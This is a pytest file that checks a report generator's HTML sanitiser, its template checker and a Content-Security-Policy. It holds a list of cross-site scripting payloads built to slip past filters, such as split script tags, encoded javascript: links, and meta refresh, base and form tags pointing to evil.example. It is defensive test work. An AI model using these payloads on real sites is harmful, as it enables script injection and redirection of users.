"""The report page checked by what it is: every payload a template can slip past a list of banned strings is
named by check-template (by the trial page's line) and refused, and the sanitiser leaves none of them in a page;
every page carries a strict Content-Security-Policy."""

from __future__ import annotations

import re
import shutil
from html.parser import HTMLParser
from pathlib import Path

import pytest
from conftest import SAMPLE_CSV

from generator.jinja.sets import builtin_templates_dir
from generator.render.page.sanitize import CSP, CSP_META, clean_page, removed

PAYLOADS = {
    "svg onload": ("<svg/onload=alert(1)>", "<svg> 元素"),
    "script from an expression": ('<{{ "script" }}>alert(1)</{{ "script" }}>', "<script> 元素"),
    "script split by a comment": ("<scr{# #}ipt>alert(1)</script>", "<script> 元素"),
    "event attribute split by an expression": (
        '<img src="data:," alt="" o{{ "" }}nerror=alert(1)>',
        "<img> 的 onerror 属性",
    ),
    "entity-encoded javascript": ('<a href="&#106;avascript:alert(1)">x</a>', "<a> 的 href=“javascript:” 链接"),
    "javascript with a tab": ('<a href="java&#x09;script:alert(1)">y</a>', "<a> 的 href=“javascript:” 链接"),
    "meta refresh": ('<meta http-equiv="refresh" content="0;url=http://evil.example/">', "<meta> 的 http-equiv 属性"),
    "base href": ('<base href="http://evil.example/">', "<base> 元素"),
    "form action": ('<form action="http://evil.example/"><input name="q"></form>', "<form> 元素"),
}
PAGE = """<!DOCTYPE html>
<html lang="zh-CN">
<head><meta charset="utf-8"><title>{{ meta.title }}</title><style>{% include "style.css" %}</style></head>
<body>
PAYLOAD
{{ document.body }}
</body>
</html>
"""


def page_set(tmp_path: Path, payload: str = "", css: str = "") -> Path:
    folder = tmp_path / "tpl"
    shutil.copytree(builtin_templates_dir() / "default", folder)
    (folder / "report.html.j2").write_text(PAGE.replace("PAYLOAD", payload), encoding="utf-8")
    if css:
        with (folder / "style.css").open("a", encoding="utf-8") as style:
            style.write(css)
    return folder


class Active(HTMLParser):
    """Everything in a page that could run or fetch: what no clean page may hold."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("script", "svg", "base", "form", "input", "iframe", "object", "embed"):
            self.found.append(tag)
        for name, value in attrs:
            compact = "".join((value or "").split()).lower()
            if name.startswith("on") or compact.startswith("javascript:"):
                self.found.append(f"{tag} {name}")
            if tag == "meta" and name == "http-equiv" and value != "Content-Security-Policy":
                self.found.append("meta http-equiv")


def active(page: str) -> list[str]:
    parser = Active()
    parser.feed(page)
    return parser.found


@pytest.mark.parametrize("case", list(PAYLOADS))
def test_each_payload_is_named_by_check_template_and_never_published(run, tmp_path, case):
    payload, what = PAYLOADS[case]
    folder = page_set(tmp_path, payload)
    checked = run("check-template", folder)
    assert checked.exit_code == 1, checked.output
    expected = rf"模板 report\.html\.j2 试生成网页第 \d+ 行：{re.escape(what)}不在报告网页允许的范围内，生成时会被删除"
    assert re.search(expected, checked.output), checked.output
    result = run(SAMPLE_CSV, "--template", folder, "-o", "out", "--format", "html")
    assert result.exit_code == 3 and what in result.stderr, result.stderr
    assert not list(tmp_path.glob("out/*.html"))


def test_a_style_sheet_that_closes_its_element_is_named_and_cut(run, tmp_path):
    folder = page_set(tmp_path, css="\n</style><svg/onload=alert(1)>\n")
    checked = run("check-template", folder)
    assert checked.exit_code == 1 and "<svg> 元素不在报告网页允许的范围内" in checked.output, checked.output


def test_the_sanitiser_leaves_no_payload_in_a_page_and_adds_the_policy():
    payloads = "\n".join(
        payload.replace('{{ "script" }}', "script").replace("{# #}", "").replace('{{ "" }}', "")
        for payload, _ in PAYLOADS.values()
    )
    page = PAGE.replace("PAYLOAD", payloads).replace("{{ document.body }}", "<p>正文</p>")
    page = page.replace('{% include "style.css" %}', "body{color:#000} @import url(http://evil.example/a.css);")
    assert len(active(page)) >= len(PAYLOADS) and len(removed(page)) >= len(PAYLOADS)
    clean = clean_page(page)
    assert active(clean) == [], active(clean)
    assert f'<meta http-equiv="Content-Security-Policy" content="{CSP}">' in clean
    assert "<p>正文</p>" in clean and "body{color:#000}" in clean and "evil.example" not in clean
    assert removed(clean.replace(CSP_META, "")) == []  # the policy is the sanitiser's own


def test_the_built_in_sets_lose_nothing_and_their_pages_carry_the_policy(run, tmp_path):
    for name in ("default", "department"):
        assert run("check-template", builtin_templates_dir() / name).exit_code == 0
    result = run(SAMPLE_CSV, "-o", "out", "--format", "html")
    assert result.exit_code in (0, 1), result.stderr
    (page,) = (tmp_path / "out").glob("*.html")
    text = page.read_text(encoding="utf-8")
    assert "Content-Security-Policy" in text and active(text) == []


def test_chromium_enforces_the_policy_of_a_published_page(browser, pages):
    """The sample page in Chromium: a script someone slips in is refused by the page's own policy."""
    from browserkit import open_page

    with open_page(browser, pages["report"]) as page:
        with pytest.raises(Exception, match="Content Security Policy"):
            page.add_script_tag(content="document.title = 'changed'")
        assert page.title() != "changed" and page.locator("h1").count() == 1


def test_the_body_made_from_word_put_back_after_the_sanitiser_is_what_it_would_keep(run, tmp_path):
    """The body made from Word skips the sanitiser (the tool's own markup around escaped texts): a page is what a
    second pass of the sanitiser over all of it leaves unchanged, and markup typed into a table's label and into
    a paragraph of report.docx reaches the page as text."""
    import zipfile

    folder = tmp_path / "tpl"
    shutil.copytree(builtin_templates_dir() / "default", folder)
    template = folder / "report.docx"
    with zipfile.ZipFile(template) as archive:
        members = [(info, archive.read(info)) for info in archive.infolist()]
    typed = "社会公益组织&lt;script&gt;alert(1)&lt;/script&gt;".encode()
    lead = "（一）主动公开：".encode()
    typed_lead = "（一）主动公开&lt;img src=x onerror=alert(2)&gt;：".encode()
    with zipfile.ZipFile(template, "w", zipfile.ZIP_DEFLATED) as archive:
        for info, data in members:
            if info.filename == "word/document.xml":
                data = data.replace("社会公益组织".encode(), typed, 1).replace(lead, typed_lead, 1)
            archive.writestr(info, data)
    result = run(SAMPLE_CSV, "--template", folder, "-o", "out", "--format", "html")
    assert result.exit_code in (0, 1), result.stderr
    page = next((tmp_path / "out").glob("*.html")).read_text(encoding="utf-8")
    assert 'id="table-t3"' in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "&lt;img src=x onerror=alert(2)&gt;" in page and "<img" not in page
    assert active(page) == [] and "<script" not in page
    assert clean_page(page) == page
